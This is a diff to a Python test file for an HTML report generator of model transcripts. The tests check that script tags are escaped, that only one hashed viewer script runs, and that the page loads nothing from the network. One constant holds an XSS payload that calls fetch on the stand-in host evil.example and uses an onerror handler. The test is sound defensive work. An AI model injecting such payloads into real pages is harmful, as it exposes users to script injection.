@@ -16,6 +16,7 @@ from rich.console import Console
 from rlkernel.report import TEXT_LIMIT, Story, choose, differences, manifest_text, print_table, steps, write_report
 from rlkernel.summary import read_run, summarise
 from rlkernel.types import Evaluation, LaunchFact, OpFact, Status
+from rlkernel.viewer import script
 
 EVIL = "</pre><script>fetch('http://evil.example')</script><img src=x onerror=alert(1)>"
 
@@ -106,7 +107,13 @@ def test_what_a_model_wrote_cannot_become_markup(tmp_path: Path) -> None:
     run = write_run(tmp_path / "a", "grpo", 0, 0.5, [{**transcript(EVIL, evil), "prompt": EVIL}])
     page = write_report(tmp_path / "out", Story(EVIL, EVIL), [run]).read_text()
     tags = Tags(page).tags
-    assert not [tag for tag, _ in tags if tag in ("script", "iframe", "object", "link", "base")]
+    assert not [tag for tag, _ in tags if tag in ("iframe", "object", "link", "base")]
+    # The packed turns, which are no script, and the viewer; its hash is the only one that may run.
+    assert [attributes.get("id", "viewer") for tag, attributes in tags if tag == "script"] == ["index", "viewer", "block-0"]
+    assert all(attributes["type"] == "text/plain" for tag, attributes in tags if tag == "script" and attributes)
+    text, digest = script()
+    assert f"<script>{text}</script>" in page and "</" not in text
+    assert f"script-src '{digest}'\">" in page
     assert not [name for _, attributes in tags for name in attributes if name.startswith("on")]
     assert page.count("&lt;script&gt;") >= 5
     assert all((attributes["src"] or "").startswith("data:image/png;base64,") for tag, attributes in tags if tag == "img")
@@ -115,7 +122,7 @@ def test_what_a_model_wrote_cannot_become_markup(tmp_path: Path) -> None:
 def test_page_needs_no_network(tmp_path: Path, runs: list[Path]) -> None:
     page = write_report(tmp_path / "out", Story("Estimators", "The claim."), runs).read_text()
     assert "default-src 'none'" in page
-    assert not re.findall(r"(?:href|src)=\"(?!data:)|url\(|@import", page)
+    assert not re.findall(r"(?:href|src)=\"(?!data:|#)|url\(|@import", page)
 
 
 def test_page_is_bounded_whatever_the_transcripts_hold(tmp_path: Path) -> None:
